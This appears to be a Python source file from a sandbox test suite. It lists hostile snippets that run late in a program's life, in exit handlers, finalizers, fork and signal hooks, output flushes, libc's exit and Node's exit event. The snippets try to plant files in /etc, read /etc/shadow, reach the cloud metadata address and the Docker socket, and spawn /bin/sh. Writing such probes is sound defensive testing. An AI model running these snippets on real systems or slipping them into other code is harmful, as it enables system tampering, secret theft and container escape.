# ruff: noqa: E501 - programs keep their lines
"""Attacks that begin when a program is over: as the interpreter ends, in its hooks, in the C library's."""

from __future__ import annotations

from textwrap import indent

from .model import Attempt, Hostile, hostile

_PLANTED: Attempt = ("file", "/etc/planted")
_PLANT = 'os.close(os.open("/etc/planted", os.O_WRONLY | os.O_CREAT)); os.write(1, b"BREACH")'
_CONNECT = (
    "s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM); s.settimeout(3)\n"
    "try: s.connect(ADDRESS); os.write(1, b'BREACH')\n"
    "except TimeoutError: os.write(1, b'BREACH: a packet went out')"
)


def _late(name: str, source: str, act: str = _PLANT, attempt: Attempt = _PLANTED) -> Hostile:
    """A program whose `late` acts, whose exceptions end there."""
    body = indent(act, " " * 8)
    late = f"import os, _socket\ndef late(*_):\n    try:\n{body}\n    except OSError: pass\n"
    return hostile(name, late + source, attempt, "ok")


SNIPPETS: list[Hostile] = [
    _late(
        "an exit function that an exit function registers",
        """
import atexit
def first():
    atexit.unregister(first); atexit.register(late); atexit._run_exitfuncs()
atexit.register(first)
""",
    ),
    _late(
        "the end of a cycle, with the calls it kept",
        """
class Last:
    def __init__(self): self.me = self
    def __del__(self, late=late): late()
kept = Last()
""",
    ),
    _late(
        "a connection in the end of a generator",
        """
def run(late=late):
    try: yield
    finally: late()
kept = run(); next(kept)
""",
        _CONNECT.replace("ADDRESS", '("192.0.2.1", 80)'),
        ("network", "192.0.2.1:80"),
    ),
    _late(
        "a finalizer that puts a program where all look",
        """
import weakref
class Thing: pass
thing = Thing(); weakref.finalize(thing, late)
""",
        'os.close(os.open("/usr/local/bin/planted", os.O_WRONLY | os.O_CREAT)); os.write(1, b"BREACH")',
        ("file", "/usr/local/bin/planted"),
    ),
    _late(
        "the cloud's metadata before the exit functions",
        "import threading; threading._register_atexit(late)",
        _CONNECT.replace("ADDRESS", '("169.254.169.254", 80)'),
        ("network", "169.254.169.254:80"),
    ),
    _late(
        "a hook of a fork that is made at the end",
        """
import atexit
def fork():
    pid = os.fork()
    if pid == 0: os._exit(0)
    os.waitpid(pid, 0)
os.register_at_fork(after_in_child=late); atexit.register(fork)
""",
        'os.write(1, b"BREACH" if os.read(os.open("/etc/shadow", os.O_RDONLY), 1) else b"")',
        ("file", "/etc/shadow"),
    ),
    _late(
        "a signal whose timer is set at the end",
        """
import atexit, signal, time
def wait():
    signal.signal(signal.SIGALRM, late); signal.setitimer(signal.ITIMER_REAL, 0.1); time.sleep(0.3)
atexit.register(wait)
""",
    ),
    _late(
        "a daemon thread that waits for the end",
        """
import atexit, threading
ending, done = threading.Event(), threading.Event()
def wait(): ending.wait(); late(); done.set()
threading.Thread(target=wait, daemon=True).start()
atexit.register(lambda: (ending.set(), done.wait(5)))
""",
        's = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM); s.sendto(b"x", ("192.0.2.1", 53)); os.write(1, b"BREACH")',
        ("network", "192.0.2.1"),
    ),
    _late(
        "a shell from the hook for lost exceptions",
        """
import atexit, sys
def raises(): raise ValueError("late")
sys.unraisablehook = sys.excepthook = late
atexit.register(raises)
""",
        'os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", "echo x > /etc/planted && echo BREACH"], {"PATH": "/usr/bin:/bin"}), 0)',
    ),
    _late(
        "an output whose flush asks for docker",
        """
import sys
class Output:
    closed, encoding = False, "utf-8"
    def write(self, text): return len(text)
    def flush(self, late=late): late()
sys.stdout = Output()
""",
        's = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM); s.connect("/var/run/docker.sock"); os.write(1, b"BREACH")',
        ("file", "docker.sock"),
    ),
    hostile(
        "a shell as the C library ends",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.strdup.restype = ctypes.c_void_p
        libc.__cxa_atexit.argtypes = [ctypes.c_void_p] * 3
        command = libc.strdup(b"echo x > /etc/planted && echo BREACH")
        libc.__cxa_atexit(ctypes.cast(libc.system, ctypes.c_void_p), command, None)
        """,
        None,  # a run ends where the interpreter has: the library's own end is not reached
        "ok",
    ),
    hostile(
        "a shell in Node.js's exit event",
        """
        import { spawnSync } from 'node:child_process';
        import fs from 'node:fs';
        process.on('exit', () => {
          try { fs.writeFileSync('/etc/planted', 'x'); fs.writeSync(1, 'BREACH'); } catch {}
          const done = spawnSync('/bin/sh', ['-c', 'echo x > /usr/local/bin/planted'], { stdio: 'ignore', timeout: 5000 });
          if (done.status === 0) fs.writeSync(1, 'BREACH');
        });
        """,
        ("file", "/usr/local/bin/planted"),
        "ok",
        "javascript",
    ),
]
